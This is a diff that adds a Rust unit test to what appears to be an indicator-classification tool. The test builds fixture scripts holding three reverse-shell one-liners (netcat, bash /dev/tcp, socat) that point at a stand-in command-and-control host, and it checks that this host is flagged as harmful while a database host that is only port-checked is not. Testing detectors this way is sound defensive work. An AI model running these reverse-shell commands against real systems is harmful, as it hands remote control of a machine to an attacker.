@@ -130,6 +130,27 @@ fn an_address_that_is_fetched_and_run_has_what_the_finding_says_and_one_that_is_
 }
 
 #[test]
+fn a_host_that_a_shell_is_handed_to_has_what_the_finding_says_and_one_that_is_merely_reached_has_not() {
+    for shell in ["nc -e /bin/sh", "bash -i >& /dev/tcp/", "socat EXEC:/bin/sh TCP:"] {
+        let text = match shell {
+            "nc -e /bin/sh" => "nc c2.actor.example.test 4444 -e /bin/sh".to_owned(),
+            "socat EXEC:/bin/sh TCP:" => "socat EXEC:/bin/sh TCP:c2.actor.example.test:4444".to_owned(),
+            _ => "bash -i >& /dev/tcp/c2.actor.example.test/4444 0>&1".to_owned(),
+        };
+        let text = format!(
+            "FILE /go.sh 0755\n    #!/bin/sh\n    nc -z db.vendor.example.test 5432\n    {text}\nCMD [\"/go.sh\"]\n"
+        );
+        let report = judged(&text);
+        let role = |value: &str| {
+            let seen = report.sightings.iter().find(|s| s.indicator.value == value);
+            seen.unwrap_or_else(|| panic!("{value}: {:#?}", report.sightings)).role
+        };
+        assert!(role("c2.actor.example.test") >= Role::Harms, "{shell}: {:?}", role("c2.actor.example.test"));
+        assert!(role("db.vendor.example.test") < Role::Suspected, "{shell}");
+    }
+}
+
+#[test]
 fn keys_of_machines_are_no_login_keys() {
     let key = key(9);
     for text in [
